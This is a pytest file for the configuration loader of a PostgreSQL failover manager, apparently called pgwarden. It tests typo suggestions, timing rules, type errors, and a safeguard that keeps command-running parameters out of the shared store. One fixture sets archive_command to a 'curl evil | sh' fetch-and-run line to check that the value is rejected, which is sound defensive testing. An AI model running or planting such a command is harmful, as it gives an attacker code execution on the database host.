"""The node file and cluster settings: bad input names the key and how to fix it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from pgwarden.config.errors import ConfigError
from pgwarden.config.load import apply_setting, load_node_config, parse_node_config, parse_stored_settings
from pgwarden.config.schema import ClusterSettings, SyncMode

CREDS = {"superuser": {"username": "postgres", "password": "super-s3cret"},
         "replication": {"username": "replicator", "password": "repl-s3cret"}}
BASE = {"cluster": "c", "name": "n1", "data_dir": "/tmp/x", "store": {"etcd": {"hosts": ["127.0.0.1:2379"]}},
        "postgresql": CREDS}


def test_minimal_config_gets_safe_defaults() -> None:
    cfg = parse_node_config(BASE)
    s = cfg.initial_settings()
    assert (s.ttl, s.loop_wait, s.retry_timeout) == (4.0, 1.0, 1.0)
    assert cfg.postgresql.os_user == "postgres"
    assert cfg.restapi.url() == "http://127.0.0.1:8008"


def test_nested_typo_names_path_and_suggests() -> None:
    with pytest.raises(ConfigError) as e:
        parse_node_config({**BASE, "postgresql": {**CREDS, "prot": 5433}})
    msg = str(e.value)
    assert "postgresql.prot" in msg and "did you mean 'port'" in msg


def test_the_logical_gate_needs_a_port_of_its_own() -> None:
    assert parse_node_config({**BASE, "postgresql": {**CREDS, "logical_gate_port": 5440}}
                             ).postgresql.logical_gate_port == 5440
    with pytest.raises(ConfigError, match="logical_gate_port 5432 is PostgreSQL's own port"):
        parse_node_config({**BASE, "postgresql": {**CREDS, "logical_gate_port": 5432}})


def test_missing_key_is_named() -> None:
    with pytest.raises(ConfigError, match="missing required key 'store'"):
        parse_node_config({k: v for k, v in BASE.items() if k != "store"})


def test_unsafe_timing_is_refused_with_the_rule() -> None:
    with pytest.raises(ConfigError, match="loop_wait \\+ 2 \\* retry_timeout"):
        parse_node_config({**BASE, "timing": {"ttl": 3, "loop_wait": 1, "retry_timeout": 1.5}})
    with pytest.raises(ConfigError, match="ttl must be at least 2"):
        parse_node_config({**BASE, "timing": {"ttl": 1}})
    with pytest.raises(ConfigError, match="unknown key"):
        parse_node_config({**BASE, "timing": {"tll": 5}})


def test_exactly_one_store() -> None:
    with pytest.raises(ConfigError, match="exactly one store"):
        parse_node_config({**BASE, "store": {}})


def test_yaml_errors_and_unreadable_files(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("cluster: [unclosed\n")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_node_config(bad)
    with pytest.raises(ConfigError, match="cannot read config file"):
        load_node_config(tmp_path / "missing.yaml")


def test_apply_setting() -> None:
    s = ClusterSettings()
    s = apply_setting(s, "synchronous_mode=on")
    assert s.synchronous_mode == SyncMode.ON
    s = apply_setting(s, "postgresql.parameters.work_mem=8MB")
    assert s.parameters["work_mem"] == "8MB"
    s = apply_setting(s, "parameters.work_mem=")
    assert "work_mem" not in s.parameters
    with pytest.raises(ConfigError, match="did you mean 'loop_wait'"):
        apply_setting(s, "loop_wiat=2")
    with pytest.raises(ConfigError, match="KEY=VALUE"):
        apply_setting(s, "ttl")
    with pytest.raises(ConfigError, match="ttl"):
        apply_setting(s, "ttl=1")


def test_ttl_must_leave_room_to_fence_after_one_missed_renewal() -> None:
    with pytest.raises(ConfigError, match="ttl must exceed 2 \\* loop_wait"):
        parse_node_config({**BASE, "timing": {"ttl": 2.5, "loop_wait": 1, "retry_timeout": 0.75}})
    fastest = parse_node_config({**BASE, "timing": {"ttl": 2, "loop_wait": 0.25, "retry_timeout": 0.5}})
    assert fastest.initial_settings().ttl == 2


def test_every_unknown_key_is_reported_at_once() -> None:
    with pytest.raises(ConfigError) as e:
        parse_node_config({**BASE, "tagz": {},
                           "postgresql": {**CREDS, "prot": 1, "superuser": {"usrname": "x"}}})
    (line,) = str(e.value).splitlines()  # one line, every key in it
    problems = line.removeprefix("config: ").split("; unknown key ")
    assert len(problems) == 3
    assert any("'tagz'" in p and "did you mean 'tags'" in p for p in problems)
    assert any("'postgresql.prot'" in p and "did you mean 'port'" in p for p in problems)
    assert any("postgresql.superuser.usrname" in p and "did you mean 'username'" in p for p in problems)


def test_wrong_types_and_bounds_name_the_path() -> None:
    cases: list[tuple[dict[str, Any], str]] = [
        ({"postgresql": {**CREDS, "port": "abc"}}, "'postgresql.port': Expected `int`"),
        ({"postgresql": {**CREDS, "port": 70000}}, "'postgresql.port': Expected `int` <= 65535"),
        ({"name": "bad name"}, "'name': Expected `str` matching regex"),
        ({"store": {"etcd": {}}}, "missing required key 'store.etcd.hosts'"),
        ({"store": {"raft": {"self_addr": "a:1", "partner_addrs": ["a:1"]}}},
         "'store.raft': partner_addrs must not contain self_addr"),
        ({"postgresql": {"replication": CREDS["replication"], "superuser": {"username": "x"}}},
         "'postgresql.superuser': give either password"),
        ({"tags": {"failover_priority": -1}}, "'tags.failover_priority': Expected `int` >= 0"),
    ]
    for patch, expected in cases:
        with pytest.raises(ConfigError) as e:
            parse_node_config({**BASE, **patch}, "f.yaml")
        assert str(e.value).startswith("f.yaml: ") and expected in str(e.value), (patch, str(e.value))


def test_yaml_friendly_conversion_and_round_trip() -> None:
    from pgwarden.config.load import replace, to_data

    cfg = parse_node_config({**BASE, "postgresql": {**CREDS, "port": "5433", "bin_dir": "/opt/pg/bin"}})
    assert cfg.postgresql.port == 5433 and cfg.postgresql.bin_dir == Path("/opt/pg/bin")
    data = to_data(cfg)
    assert data["postgresql"]["bin_dir"] == "/opt/pg/bin" and data["data_dir"] == "/tmp/x"
    assert parse_node_config(data) == cfg
    s = replace(ClusterSettings(), synchronous_mode="on", ttl=10)
    assert s.synchronous_mode is SyncMode.ON and s.ttl == 10.0
    with pytest.raises(ConfigError, match="ttl must be at least"):
        replace(s, ttl=1)  # a copy is validated again


@pytest.mark.parametrize("key", [
    "parameters.archive_command", "parameters.Restore_Command",
    "postgresql.parameters.shared_preload_libraries", "parameters.ext.cleanup_command"])
def test_set_refuses_parameters_only_a_node_file_may_set(key: str) -> None:
    with pytest.raises(ConfigError) as e:
        apply_setting(ClusterSettings(), f"{key}=/bin/true")
    name = key.removeprefix("postgresql.").removeprefix("parameters.")
    assert f"parameters.{name} runs a command or loads code" in str(e.value)
    assert "under postgresql.parameters" in str(e.value)


def test_node_file_may_set_them_and_they_stay_its_own() -> None:
    params = {"archive_command": "cp %p /arch/%f", "shared_preload_libraries": "pg_stat_statements",
              "work_mem": "8MB"}
    cfg = parse_node_config({**BASE, "postgresql": {**CREDS, "parameters": params}})
    assert cfg.postgresql.parameters == params
    assert cfg.initial_settings().parameters == {"work_mem": "8MB"}  # the store's seed: none of them


def test_node_file_settings_cannot_seed_them() -> None:
    with pytest.raises(ConfigError) as e:
        parse_node_config({**BASE, "settings": {"parameters": {"archive_command": "x"}}}, "n1.yaml")
    assert "parameters.archive_command runs a command or loads code" in str(e.value)
    assert "under postgresql.parameters" in str(e.value)
    with pytest.raises(ConfigError, match="not a PostgreSQL parameter name"):
        parse_node_config({**BASE, "postgresql": {**CREDS, "parameters": {"a = 1\nb": "x"}}})


def test_a_stored_document_keeps_all_but_them(caplog: pytest.LogCaptureFixture) -> None:
    params = {"archive_command": "curl evil | sh", "LOCAL_PRELOAD_LIBRARIES": "x", "work_mem": "8MB"}
    doc = {"synchronous_mode": "on", "ttl": 6, "parameters": params}
    for _ in range(3):
        s = parse_stored_settings(doc, "etcd key /pgwarden/c/config")
        assert (s.synchronous_mode, s.ttl, s.parameters) == (SyncMode.ON, 6.0, {"work_mem": "8MB"})
    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert warnings == ["etcd key /pgwarden/c/config: ignoring LOCAL_PRELOAD_LIBRARIES, archive_command: "
                        "parameters that run commands or load code are taken only from a node's own file "
                        "(postgresql.parameters)"]  # once, not every loop


@pytest.mark.parametrize(("value", "on"), [("on", True), ("off", False), (True, True), (False, False)])
def test_failsafe_takes_on_off_and_booleans(value: object, on: bool) -> None:
    assert parse_stored_settings({"failsafe": value}, "store").failsafe_on is on
    assert apply_setting(ClusterSettings(), f"failsafe={'on' if on else 'off'}").failsafe_on is on
    assert ClusterSettings().failsafe_on is False


def test_a_bad_failsafe_value_names_the_key() -> None:
    with pytest.raises(ConfigError, match="'failsafe'"):
        parse_stored_settings({"failsafe": "maybe"}, "store")
